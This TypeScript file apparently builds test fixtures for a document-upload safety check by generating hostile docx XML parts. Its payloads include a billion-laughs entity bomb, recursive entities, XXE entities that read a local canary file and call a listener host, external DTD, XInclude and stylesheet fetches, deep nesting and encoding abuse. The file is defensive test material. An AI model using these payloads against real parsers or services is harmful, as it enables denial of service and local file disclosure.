import { makeArchive } from '@assay/sidekicks/checks/file-safety/samples/make-office.ts';
import { latin, u8 } from './bytes.ts';
import type { Pantry, Recipe } from './recipe.ts';
import { contentTypes, docx } from './zip.ts';

/** A little less than what such a part may be: more is not read at all. */
const characters = 1_000_000;

/** What a part says if it is honest → what it says here: a declaration may come before it and more around it. */
type Write = (honest: string, pantry: Pantry) => string | Buffer;

/** Entities of which each is ten of the one before: ten levels are ten thousand million words. */
const laughs = Array.from({ length: 10 }, (_, i) => `<!ENTITY l${i} "${i ? `&l${i - 1};`.repeat(10) : 'lol'}">`);

const texts: Record<string, Write> = {
  'entities-of-entities': (honest) => `<!DOCTYPE a [${laughs.join('')}]>${honest}<a>&l9;</a>`,
  'entities-that-name-each-other': (honest) => `<!DOCTYPE a [<!ENTITY x "&y;"><!ENTITY y "&x;">]>${honest}<a>&x;</a>`,
  'one-long-entity-50000-times': (honest) =>
    `<!DOCTYPE a [<!ENTITY x "${'x'.repeat(500_000)}">]>${honest}<a>${'&x;'.repeat(50_000)}</a>`,
  'an-entity-from-elsewhere': (honest, { listener, canary }) =>
    `<!DOCTYPE a [<!ENTITY f SYSTEM "file://${canary}"><!ENTITY w SYSTEM "http://${listener}/w">]>${honest}<a>&f;&w;</a>`,
  'a-type-from-elsewhere': (honest, { listener, canary }) =>
    `<!DOCTYPE a SYSTEM "http://${listener}/a.dtd" [<!ENTITY % p SYSTEM "file://${canary}"> %p;]>${honest}`,
  'a-style-and-an-inclusion-from-elsewhere': (honest, { listener, canary }) =>
    `<?xml-stylesheet href="http://${listener}/a.xsl"?>${honest}<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${canary}"/>`,
  '100000-levels': (honest) => `${honest}${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`,
  '300000-levels-that-never-close': (honest) => `${honest}${'<a>'.repeat(300_000)}`,
  'one-attribute-of-1-MB': (honest) => `${honest}<Relationship Target="${'x'.repeat(characters - 500)}"/>`,
  '100000-attributes': (honest) => `${honest}<Relationship ${'a="" '.repeat(100_000)}/>`,
  '100000-attributes-without-a-value': (honest) => `${honest}<Relationship ${'a = '.repeat(100_000)}/>`,
  'attributes-between-100-spaces': (honest) => `${honest}<Relationship ${`a${' '.repeat(99)}`.repeat(9000)}/>`,
  'a-quote-that-never-closes': (honest) => `${honest}<Relationship a="x${"b='".repeat(200_000)}`,
  'utf-16-little': (honest) => Buffer.from(`\ufeff${honest}`, 'utf16le'),
  'utf-16-big-without-a-mark': (honest) => Buffer.from(`<?xml version="1.0"?>${honest}`, 'utf16le').swap16(),
  'half-a-character-of-utf-16': (honest) => Buffer.from(`\ufeff${honest}`, 'utf16le').subarray(0, -1),
  'utf-7': (honest) =>
    `<?xml version="1.0" encoding="UTF-7"?>${honest}+ADw-Relationship TargetMode+AD0AIg-External+ACI-/+AD4-`,
  'utf-32': (honest) => Buffer.concat([...honest].map((letter) => u8(0, 0, 0, letter.charCodeAt(0)))),
  'a-declared-encoding-that-is-another': (honest) => `<?xml version="1.0" encoding="UTF-16"?>${honest}`,
  'broken-utf-8': (honest) =>
    Buffer.concat([latin(honest), Buffer.alloc(100_000, u8(0xc3, 0x28, 0xff, 0xed, 0xa0, 0x80))]),
  'character-data': (honest) => `${honest}<a><![CDATA[${'<b>]] >'.repeat(100_000)}]]></a>`,
  'character-data-that-never-ends': (honest) => `${honest}<a>${'<![CDATA['.repeat(100_000)}`,
  'a-comment-that-never-ends': (honest) => `${honest}<!--${'-'.repeat(characters - 500)}`,
  '100000-comments': (honest) => `${honest}${'<!---->'.repeat(100_000)}`,
  'an-instruction-that-never-ends': (honest) => `${honest}<?${'?'.repeat(characters - 500)}`,
  'a-million-brackets': (honest) => `${honest}${'<'.repeat(characters - 500)}`,
  'a-million-closing-brackets': (honest) => `${honest}${'>'.repeat(characters - 500)}`,
  'a-million-ampersands': (honest) => `${honest}<a>${'&'.repeat(characters - 500)}`,
  '200000-numbered-characters': (honest) => `${honest}<a>${'&#x41;'.repeat(60_000)}${'&#9999999;'.repeat(60_000)}`,
  '240000-elements': (honest) => `${honest}${'<a/>'.repeat(240_000)}`,
  '240000-elements-with-text': (honest) => `${honest}${'<a>b'.repeat(240_000)}`,
  '70000-relationships': (honest) => `${honest}${'<Relationship'.repeat(70_000)}`,
  '20000-relationships-to-elsewhere': (honest, { listener }) =>
    `${honest}${`<Relationship Target="//${listener}" TargetMode="External"/>`.repeat(15_000)}`,
  'nul-between-all': (honest) => `${[...honest].join('\0')}`,
  'nul-behind': (honest) => `${honest}${'\0'.repeat(characters - 500)}`,
  'spaces-alone': (honest) => `${' '.repeat(characters - 500)}${honest}`,
  'names-of-64-characters': (honest) => `${honest}${`<${'a'.repeat(64)}:${'b'.repeat(64)}`.repeat(7000)}`,
};

const relationships =
  '<Relationships><Relationship Id="r" Type="x/officeDocument" Target="word/document.xml"/></Relationships>';
const properties = '<cp:coreProperties><dc:creator>Ann</dc:creator></cp:coreProperties>';

const parts: [label: string, put: (write: (honest: string) => string | Buffer) => Buffer][] = [
  ['types', (write) => makeArchive([{ name: '[Content_Types].xml', data: write(contentTypes('docx')) }])],
  ['relationships', (write) => docx({ name: '_rels/.rels', data: write(relationships) })],
  ['properties', (write) => docx({ name: 'docProps/core.xml', data: write(properties) })],
];

/** In these the kind of a package cannot be read where somebody looks for it as it is mostly written. */
const unreadable = new Set([
  'utf-16-little',
  'utf-16-big-without-a-mark',
  'half-a-character-of-utf-16',
  'utf-32',
  'nul-between-all',
]);

export const officeXml: Recipe[] = parts.flatMap(([label, put]) =>
  Object.entries(texts).map(([name, write]) => ({
    name: `office/${label}-${name}`,
    filename: 'a.docx',
    make: (pantry) => put((honest) => write(honest, pantry)),
    expected: label === 'types' && unreadable.has(name) ? ['refused 415', 'complete'] : ['complete'],
  })),
);
